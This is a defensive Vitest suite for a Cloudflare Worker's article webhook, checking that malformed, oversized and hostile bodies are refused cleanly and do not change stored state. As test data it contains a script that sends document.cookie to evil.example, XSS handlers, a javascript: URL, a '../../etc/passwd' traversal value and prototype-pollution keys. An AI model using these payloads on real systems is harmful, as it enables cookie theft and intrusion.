// Hostile input is refused with a clear 4xx and leaves the stored state exactly as it was.
import { createExecutionContext, waitOnExecutionContext } from 'cloudflare:test';
import { env, exports } from 'cloudflare:workers';
import { afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import worker from '../../src/index';
import { MAX_BODY_BYTES } from '../../src/lib/body';
import { webhookHeaders } from '../../src/lib/standard-webhooks';
import { captured, captureOutbound, noteFiled, sendToArticles, TEST_SECRET } from '../helpers';
import { article, type ErrorJson } from './articles';
import { quietStateDigest, stateDigest } from './state';

/*
 * What a refused request must not change: KV, the index and the trackers. The delivery ledger is left out: only
 * the queue consumer writes it, and an earlier test's alert, retried after its fetch mock was restored, can
 * write it at any moment.
 */
const STORED = { withoutLedger: true } as const;

const URL_ = 'http://tollwatch.test/v1/articles';
let n = 0;

/** Signs any bytes as a legitimate sender would: these tests reach the parser, not the authenticator. */
async function send(body: string | Uint8Array, contentType: string | null = 'application/json', extra: Record<string, string> = {}): Promise<Response> {
  const headers = await webhookHeaders(TEST_SECRET, `msg_hostile_${n++}_${Date.now()}`, body);
  return sendToArticles({
    method: 'POST',
    headers: { ...(contentType === null ? {} : { 'content-type': contentType }), ...headers, ...extra },
    body,
  });
}

/** A refusal: the given 4xx status, the documented JSON shape, no stack trace or source path. */
async function expectRefusal(res: Response, status: number, code?: string): Promise<ErrorJson> {
  const text = await res.text();
  expect(res.status, text.slice(0, 300)).toBe(status);
  expect(res.headers.get('content-type')).toMatch(/^application\/json/);
  expect(text).not.toMatch(/\n\s+at |\.ts:\d+|node_modules|TypeError|ReferenceError/);
  const json = JSON.parse(text) as ErrorJson;
  expect(Object.keys(json)).toEqual(['error']);
  expect(typeof json.error.code).toBe('string');
  expect(json.error.message.length).toBeGreaterThan(0);
  expect(json.error.message.length).toBeLessThan(2_000);
  if (code) expect(json.error.code).toBe(code);
  return json;
}

afterEach(() => vi.restoreAllMocks());

describe('hostile input is refused with a clear 4xx and leaves state unchanged', () => {
  let seeded = '';
  beforeAll(async () => {
    // Some state to protect: one real incident.
    captureOutbound();
    const res = await send(JSON.stringify(article(10, { place: 'Baseline' })));
    expect(res.status).toBe(200);
    seeded = await quietStateDigest(STORED); // once the seed's alert delivery and read-model flush have landed
    vi.restoreAllMocks();
  });

  const cases: Array<[name: string, body: () => string | Uint8Array, status: number, code: string, contentType?: string | null]> = [
    ['malformed JSON', () => '{"text": "5 people were killed",', 400, 'invalid_json'],
    ['single quotes', () => "{'text': '5 people were killed'}", 400, 'invalid_json'],
    ['trailing garbage', () => '{"text": "5 people were killed"} xyz', 400, 'invalid_json'],
    ['empty body', () => '', 400, 'empty_body'],
    ['whitespace body', () => ' \n\t ', 400, 'empty_body'],
    ['JSON null', () => 'null', 400, 'invalid_article'],
    ['JSON array', () => '[{"text": "5 people were killed"}]', 400, 'invalid_article'],
    ['JSON string', () => '"5 people were killed"', 400, 'invalid_article'],
    ['JSON number', () => '1e309', 400, 'invalid_article'],
    ['text missing', () => JSON.stringify({ title: 'x' }), 400, 'invalid_article'],
    ['text a number', () => JSON.stringify({ text: 5 }), 400, 'invalid_article'],
    ['text an object', () => JSON.stringify({ text: { toString: 'x' } }), 400, 'invalid_article'],
    ['text an array', () => JSON.stringify({ text: ['5 people were killed'] }), 400, 'invalid_article'],
    ['text empty', () => JSON.stringify({ text: '' }), 400, 'invalid_article'],
    ['text whitespace', () => JSON.stringify({ text: ' \n\t\u00a0\u2003 ' }), 400, 'invalid_article'],
    ['text only tags', () => JSON.stringify({ text: '<p><br/></p><script>var a = 1;</script>' }), 400, 'invalid_article'],
    ['title a number', () => JSON.stringify({ ...article(5), title: 12 }), 400, 'invalid_article'],
    ['javascript: url', () => JSON.stringify({ ...article(5), url: 'javascript:alert(1)' }), 400, 'invalid_article'],
    ['relative url', () => JSON.stringify({ ...article(5), url: '/news/1' }), 400, 'invalid_article'],
    ['bad published', () => JSON.stringify({ ...article(5), published: 'yesterday' }), 400, 'invalid_article'],
    ['impossible date', () => JSON.stringify({ ...article(5), published: '2020-02-30' }), 400, 'invalid_article'],
    ['incident_id traversal', () => JSON.stringify({ ...article(5), incident_id: '../../etc/passwd' }), 400, 'invalid_article'],
    ['incident_id too long', () => JSON.stringify({ ...article(5), incident_id: 'a'.repeat(121) }), 400, 'invalid_article'],
    ['id too long', () => JSON.stringify({ ...article(5), id: 'a'.repeat(201) }), 400, 'invalid_article'],
    ['invalid UTF-8', () => new Uint8Array([...new TextEncoder().encode('{"text": "5 people were killed '), 0xc3, 0x28, 0xff, ...new TextEncoder().encode('"}')]), 400, 'invalid_utf8'],
    ['lone surrogate bytes', () => new Uint8Array([...new TextEncoder().encode('{"text": "'), 0xed, 0xa0, 0x80, ...new TextEncoder().encode('"}')]), 400, 'invalid_utf8'],
    ['random binary', () => crypto.getRandomValues(new Uint8Array(4096)).map((b, i) => (i === 0 ? 0xff : b)), 400, 'invalid_utf8'],
    ['NUL bytes', () => new Uint8Array(1024), 400, 'invalid_json'],
    ['100k unclosed [', () => '['.repeat(100_000), 400, 'invalid_json'],
    ['100k nested arrays', () => '['.repeat(100_000) + ']'.repeat(100_000), 400, 'invalid_article'],
    ['100k nested objects', () => '{"a":'.repeat(100_000) + '1' + '}'.repeat(100_000), 400, 'invalid_article'],
    ['text nested 50k deep', () => '{"text":' + '['.repeat(50_000) + ']'.repeat(50_000) + '}', 400, 'invalid_article'],
    ['form-encoded', () => 'text=5+people+were+killed', 415, 'unsupported_media_type', 'application/x-www-form-urlencoded'],
    ['text/plain JSON', () => JSON.stringify(article(5)), 415, 'unsupported_media_type', 'text/plain'],
    ['no content-type', () => JSON.stringify(article(5)), 415, 'unsupported_media_type', null],
    ['multipart', () => '--x\r\n\r\n{}\r\n--x--', 415, 'unsupported_media_type', 'multipart/form-data; boundary=x'],
    ['json lookalike', () => JSON.stringify(article(5)), 415, 'unsupported_media_type', 'application/jsonp'],
    ['non-English', () => JSON.stringify({ text: 'Al menos 12 personas murieron en la explosión de una fábrica en las afueras de la ciudad, según las autoridades locales y los bomberos.' }), 422, 'unsupported_language'],
  ];

  for (const [name, body, status, code, contentType] of cases) {
    it(`${name} → ${status} ${code}`, async () => {
      const json = await expectRefusal(await send(body(), contentType === undefined ? 'application/json' : contentType), status, code);
      if (code === 'invalid_article') expect(json.error.details).toBeDefined();
    });
  }

  it('left the stored state exactly as it was', async () => {
    expect(await stateDigest(STORED)).toBe(seeded);
  });
});

describe('oversized bodies', () => {
  it('refuses a 10 MB body with a content-length before reading it', async () => {
    const before = await quietStateDigest(STORED);
    const body = new Uint8Array(10 * 1024 * 1024).fill(0x20);
    await expectRefusal(await sendToArticles({ method: 'POST', headers: { 'content-type': 'application/json' }, body }), 413, 'payload_too_large');
    expect(await stateDigest(STORED)).toBe(before);
  });

  it('refuses a streamed 10 MB body (no content-length) after reading about 1 MiB, not all of it', async () => {
    let pulled = 0;
    let cancelled = false;
    const chunk = new Uint8Array(64 * 1024).fill(0x20);
    const stream = new ReadableStream<Uint8Array>({
      pull(controller) {
        if (pulled >= 10 * 1024 * 1024) return controller.close();
        pulled += chunk.byteLength;
        controller.enqueue(chunk);
      },
      cancel() {
        cancelled = true;
      },
    });
    // Straight into the worker's fetch handler, in this isolate: through exports.default.fetch the runtime pumps
    // the stream into a pipe, and the worker's cancel aborted that pipe with a logged exception and stack.
    const ctx = createExecutionContext();
    const res = await noteFiled(worker.fetch(new Request(URL_, { method: 'POST', headers: { 'content-type': 'application/json' }, body: stream }), env, ctx));
    await waitOnExecutionContext(ctx);
    await expectRefusal(res, 413, 'payload_too_large');
    expect(cancelled).toBe(true);
    expect(pulled).toBeLessThan(MAX_BODY_BYTES + 8 * chunk.byteLength);
  });

  it('accepts a body just under 1 MiB (one extremely long line) without a 5xx, and still alerts with a bounded quote', async () => {
    const spy = captureOutbound();
    const filler = 'and the crowd kept growing while officials counted '.repeat(19_000); // ~ 970 KB, no sentence break
    const payload = { ...article(0), title: 'Longline blast', text: `Officials said 17 people were killed in the explosion in Longline ${filler} today.` };
    const body = JSON.stringify(payload);
    expect(body.length).toBeLessThan(MAX_BODY_BYTES);
    expect(body.length).toBeGreaterThan(900_000);
    const res = await send(body);
    expect(res.status).toBe(200);
    const json = await res.json<{ casualties: { killed?: { value: number; quote: string } } }>();
    expect(json.casualties.killed?.value).toBe(17);
    // The alert must still go out: a queue message is limited to 128 KB.
    await vi.waitUntil(() => captured(spy).some((r) => r.body.includes('Longline')), { timeout: 8000, interval: 100 });
    for (const r of captured(spy)) expect(r.body.length).toBeLessThan(128 * 1024);
  });

  it('refuses a body of exactly 1 MiB + 1 byte', async () => {
    const body = JSON.stringify({ text: 'x'.repeat(MAX_BODY_BYTES - 11 + 1) });
    expect(new TextEncoder().encode(body).byteLength).toBe(MAX_BODY_BYTES + 1);
    await expectRefusal(await send(body), 413, 'payload_too_large');
  });
});

describe('valid but unusual articles', () => {
  it('strips HTML and <script> before extraction: quotes hold no tags or script', async () => {
    captureOutbound();
    const text =
      '<html><head><style>p { color: red }</style><script type="text/javascript">document.write("999 people were killed")</script></head>' +
      '<body><p onclick="alert(1)">Officials said <b>14</b> people were killed in the explosion in Tagtown.</p>' +
      '<SCRIPT>fetch("https://evil.example/?c="+document.cookie)</SCRIPT><img src=x onerror=alert(2)><p>Rescue teams searched.</p></body></html>';
    const res = await send(JSON.stringify({ ...article(0), title: '<i>Tagtown</i> blast', text }));
    expect(res.status).toBe(200);
    const json = await res.json<{ casualties: Record<string, { value: number; quote: string }> }>();
    expect(json.casualties.killed?.value).toBe(14);
    const quotes = Object.values(json.casualties).map((f) => f.quote);
    for (const q of quotes) {
      expect(q).not.toMatch(/<\/?[a-z!][^>]*>/i);
      expect(q).not.toMatch(/script|alert\(|onerror|document\./i);
    }
  });

  it('ignores unknown fields (including __proto__ and constructor)', async () => {
    captureOutbound();
    const body = `{"__proto__": {"polluted": true}, "constructor": {"prototype": {"x": 1}}, "unknown": [1, {"deep": null}], "text": "Officials said 3 people were killed in the explosion in Unknownia.", "source": "Wire", "extra_field": 12}`;
    const res = await send(body);
    expect(res.status).toBe(200);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it('accepts +json content types and a charset parameter', async () => {
    captureOutbound();
    expect((await send(JSON.stringify(article(21, { place: 'Charset' })), 'application/json; charset=utf-8')).status).toBe(200);
    expect((await send(JSON.stringify(article(22, { place: 'Charset' })), 'application/vnd.article+json')).status).toBe(200);
  });
});
